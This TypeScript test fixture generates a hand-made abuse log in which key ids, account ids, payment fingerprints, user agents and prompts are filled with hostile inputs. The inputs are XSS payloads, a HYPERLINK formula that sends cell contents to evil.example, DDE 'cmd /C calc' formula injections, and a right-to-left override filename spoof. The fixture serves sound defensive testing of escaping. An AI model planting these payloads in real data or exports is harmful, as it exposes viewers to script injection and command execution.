/**
 * A small hand-made log whose every free-text field is hostile: HTML and
 * script, spreadsheet formulas, right-to-left overrides, Markdown link
 * syntax and very long strings, in key ids, account ids, payment
 * fingerprints, user agents and prompts. Six keys of three accounts share
 * two payment methods and an IP, so they form one cluster.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

export const LONG = 'L'.repeat(4000) + '<script>window.__pwned="long"</script>';

export const PAYLOADS = {
  script: '<script>window.__pwned=1</script>',
  img: '<img src=x onerror="window.__pwned=2;alert(2)">',
  svg: '<svg onload=window.__pwned=3>',
  attr: '"><b onmouseover=window.__pwned=4>hover</b><a href="javascript:alert(4)">',
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  plus: '+SUM(1,2)',
  minus: '-2+3*cmd|\' /C calc\'!A0',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  tab: '\t=1+1',
  cr: '\r=2+2',
  rtl: 'invoice\u202Etxt.exe',
  markdown: '[click me](javascript:alert(5)) | `code` **bold** <b>x</b>',
} as const;

/** Key ids: one payload each (ingest trims the tab and CR ones, leaving `=`). */
export const KEYS = [PAYLOADS.script, PAYLOADS.img, PAYLOADS.hyperlink, PAYLOADS.rtl, PAYLOADS.plus, `k${LONG}`, PAYLOADS.at, PAYLOADS.minus];
export const ACCOUNTS = [PAYLOADS.svg, PAYLOADS.attr, `@acct${PAYLOADS.markdown}`, PAYLOADS.tab];
export const PAYMENTS = [`pm_${PAYLOADS.script}`, PAYLOADS.hyperlink, PAYLOADS.cr];
export const USER_AGENTS = [`Mozilla/5.0 ${PAYLOADS.img}`, `curl/8 ${PAYLOADS.rtl}`, `=cmd|' /C calc'!A0 ${LONG}`];

const FILLINGS = [PAYLOADS.img, PAYLOADS.script, PAYLOADS.markdown, PAYLOADS.hyperlink, PAYLOADS.rtl, PAYLOADS.attr];
const WORDS = ['alpha', 'bravo', 'charlie', 'delta', 'echo', 'foxtrot', 'golf', 'hotel', 'india', 'juliet', 'kilo', 'lima', 'mike', 'november', 'oscar'];

/** An actor whose name and description are hostile too, matched by a shared payment method. */
export const ACTOR = { name: `${PAYLOADS.script} Lab ${PAYLOADS.rtl}`, description: `${PAYLOADS.img} ${PAYLOADS.markdown}`, indicators: [{ type: 'payment_fingerprint', value: PAYMENTS[2].trim() }] };

export function writeHostileLog(dir: string): { events: string; accounts: string; actors: string } {
  const accounts = ACCOUNTS.flatMap((id, a) => [
    { account_id: id, payment_fingerprint: PAYMENTS[a % 2], email_domain: 'evil.example', created_at: `2026-10-30T0${a}:00:00Z`, signup_ip: `198.51.100.${a + 1}`, country: 'ZZ' },
    { account_id: id, payment_fingerprint: PAYMENTS[2], email_domain: 'evil.example', created_at: `2026-10-30T0${a}:00:00Z`, signup_ip: `198.51.100.${a + 1}`, country: 'ZZ' },
  ]);
  const events: object[] = [];
  KEYS.forEach((key, k) => {
    for (let i = 0; i < 12; i++)
      events.push({
        timestamp: `2026-11-02T${String((k + i * 2) % 24).padStart(2, '0')}:${String(i * 4).padStart(2, '0')}:00Z`,
        key_id: key,
        account_id: ACCOUNTS[k % ACCOUNTS.length],
        ip: i % 2 === 0 ? '203.0.113.5' : `203.0.113.${10 + k}`,
        user_agent: USER_AGENTS[k % USER_AGENTS.length],
        model: 'm-large',
        prompt: `Think step by step and show all your reasoning before the final answer. Problem: ${FILLINGS[(k + i) % FILLINGS.length]} ${WORDS[(k * 12 + i) % WORDS.length]} ${i === 0 ? LONG : ''}`,
        input_tokens: 40,
        output_tokens: 900,
      });
  });
  const paths = { events: join(dir, 'events.jsonl'), accounts: join(dir, 'accounts.jsonl'), actors: join(dir, 'actors.json') };
  writeFileSync(paths.actors, JSON.stringify({ actors: [ACTOR] }));
  writeFileSync(paths.events, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
  writeFileSync(paths.accounts, accounts.map((a) => JSON.stringify(a)).join('\n') + '\n');
  return paths;
}
